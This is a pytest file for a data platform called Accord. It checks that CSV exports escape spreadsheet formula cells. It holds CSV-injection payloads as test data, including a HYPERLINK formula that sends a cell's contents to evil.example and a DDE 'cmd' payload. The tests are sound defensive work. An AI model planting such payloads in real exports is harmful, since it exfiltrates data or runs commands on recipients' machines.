"""Cells a spreadsheet would run as formulas are neutralised in every CSV Accord writes.

OWASP's CSV injection: a recipient opens an extract in a spreadsheet and a cell such as
``=HYPERLINK("https://evil.example/?"&A2,"click")`` runs. Text cells starting with
``=``, ``+``, ``-``, ``@``, tab or CR are written with a leading ``'``; numeric columns
are written as numbers, untouched; the file stays valid CSV with every row.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pyarrow as pa
import pyarrow.csv as pacsv
import pyarrow.parquet as pq
from hypothesis import given
from hypothesis import strategies as st

from accord.core.csv_safety import safe_cell
from accord.core.governance.records import AgreementRecord
from accord.engine.csv_safety import safe_array
from accord.engine.writer import write_batches
from accord.services.app import Accord
from accord.services.disclosure import ProtectedTable, Protection
from tests.governance.conftest import build_world
from tests.plane.conftest import agreement_request, approve

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A2,"click")',
    "+1",
    "@SUM(A1)",
    "-cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "plain",
]


def _rows(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_the_engine_writer_neutralises_text_and_keeps_numbers(tmp_path: Path) -> None:
    n = len(HOSTILE)
    batch = pa.record_batch(
        {
            "note": pa.array(HOSTILE),
            "coded": pa.array(HOSTILE).dictionary_encode(),
            "amount": pa.array([-12.5, 3.0, -1.0, 0.0, 1e6, -7.25, 2.5]),
            "count": pa.array(range(-3, n - 3), pa.int64()),
            "=name": pa.array(["x"] * n),
        }
    )
    path = tmp_path / "out.csv"
    rows, _ = write_batches(iter([batch]), path, "csv")
    assert rows == n
    written = _rows(path)
    assert written[0] == ["note", "coded", "amount", "count", "'=name"]
    body = written[1:]
    assert len(body) == n
    expected = [("'" + v) if v != "plain" else v for v in HOSTILE]
    assert [r[0] for r in body] == expected
    assert [r[1] for r in body] == expected
    assert [float(r[2]) for r in body] == [-12.5, 3.0, -1.0, 0.0, 1e6, -7.25, 2.5]
    assert [int(r[3]) for r in body] == list(range(-3, n - 3))
    # Still CSV that Arrow reads back to the same shape.
    table = pacsv.read_csv(path)
    assert table.num_rows == n
    assert pa.types.is_floating(table.schema.field("amount").type)


@given(st.text(max_size=30))
def test_the_vectorised_rule_is_the_cell_rule(value: str) -> None:
    for keep_numbers in (False, True):
        array = safe_array(pa.array([value, None]), keep_numbers=keep_numbers)
        assert array.to_pylist() == [safe_cell(value, keep_numbers=keep_numbers), None]
    assert str(safe_cell(value))[:1] not in ("=", "+", "-", "@", "\t", "\r")


def test_keep_numbers_leaves_plain_numbers_only() -> None:
    assert safe_cell("-12.5", keep_numbers=True) == "-12.5"
    assert safe_cell("+1e5", keep_numbers=True) == "+1e5"
    assert safe_cell("-1+1", keep_numbers=True) == "'-1+1"
    assert safe_cell("-12.5") == "'-12.5"
    assert safe_cell(-12.5) == -12.5


def _hostile_version(world: Accord, tmp_path: Path) -> None:
    """A new version of dwp/carers_allowance whose forenames are formulas."""
    dataset = world.store.get_dataset("dwp/carers_allowance")
    current = world.store.list_versions(dataset.id)[-1]
    table = pq.read_table(current.location)
    names = [HOSTILE[i % len(HOSTILE)] for i in range(table.num_rows)]
    table = table.set_column(
        table.schema.get_field_index("forename"), "forename", pa.array(names, pa.string())
    )
    path = tmp_path / "hostile.parquet"
    pq.write_table(table, path)
    world.catalogue.ingest(world.operator("test"), dataset.id, str(path))


def test_a_governed_csv_extract_is_neutralised(sqlite_accord: Accord, tmp_path: Path) -> None:
    world = build_world(sqlite_accord, tmp_path)
    _hostile_version(world, tmp_path)
    request = agreement_request()
    fields = [
        *request.datasets[0].model_dump(mode="json")["fields"],
        {"name": "forename", "justification": "greeting", "transform": {"kind": "keep"}},
    ]
    agreement: AgreementRecord = approve(
        world,
        agreement_request(
            datasets=[{**request.datasets[0].model_dump(mode="json"), "fields": fields}]
        ),
    )
    analyst = world.acting_as("nhse.analyst", "test")
    result = world.plane.extract(
        analyst, agreement.id, "dwp/carers_allowance", tmp_path / "out", fmt="csv"
    )
    written = _rows(Path(result.path))
    header, body = written[0], written[1:]
    assert body
    forenames = [row[header.index("forename")] for row in body]
    for value in forenames:
        assert value == "plain" or value.startswith("'"), value
    assert any(v.startswith("'=HYPERLINK") for v in forenames)
    for row in body:
        assert len(row) == len(header)


def test_a_disclosure_table_neutralises_its_labels() -> None:
    """Labels come from the data (an area's name); figures are numbers and stay so."""
    table = ProtectedTable(
        rows=("=area",),
        columns=("sex",),
        row_labels=(("@SUM(A1)",), ("north",)),
        column_labels=(("-F",),),
        values=[[-3.0, -3.0], [5.0, 5.0], [2.0, 2.0]],
        flags=[[0, 0], [0, 0], [0, 0]],
        protection=Protection.ROUND,
    )
    wide = list(csv.reader(io.StringIO(table.to_csv().decode())))
    assert wide[0] == ["'=area", "'-F", "Total"]
    assert wide[1] == ["'@SUM(A1)", "-3", "-3"]
    long = list(csv.reader(io.StringIO(table.to_long_csv().decode())))
    assert long[0] == ["'=area", "sex", "count"]
    assert long[1] == ["'@SUM(A1)", "'-F", "-3"]


def test_a_quarantine_neutralises_text_and_keeps_numbers_as_they_came(
    sqlite_accord: Accord, tmp_path: Path
) -> None:
    from accord.core.identity import OrgKind

    op = sqlite_accord.operator("test")
    sqlite_accord.identity.create_organisation(op, "dwp", "DWP", OrgKind.GOVERNMENT_DEPARTMENT)
    source = tmp_path / "in.csv"
    # Rows with a field too many are quarantined as the text they came as.
    source.write_text("n,note\n1,ok\n-12.5,=cmd,+x\n7,@SUM(A1),z\n")
    report = sqlite_accord.catalogue.register(op, "dwp", "notes", str(source), lenient=True)
    assert report.quarantine is not None
    quarantined = _rows(report.quarantine)
    assert quarantined[0][:2] == ["n", "note"]
    by_row = {row[quarantined[0].index("_row")]: row for row in quarantined[1:]}
    assert by_row["3"][:2] == ["-12.5", "'=cmd"]
    assert by_row["4"][:2] == ["7", "'@SUM(A1)"]
